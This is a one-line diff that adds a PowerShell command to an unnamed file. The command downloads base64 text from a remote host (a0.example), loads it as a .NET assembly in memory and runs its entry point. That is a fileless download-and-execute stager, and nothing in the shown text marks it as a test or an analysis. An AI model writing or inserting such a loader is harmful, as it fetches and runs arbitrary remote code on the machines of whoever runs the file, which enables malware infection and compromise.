@@ -1,0 +1,1 @@
+$b=(iwr 'http://a0.example/p.txt').Content;$a=[Reflection.Assembly]::Load([Convert]::FromBase64String($b));$a.EntryPoint.Invoke($null,(,[string[]]@()))
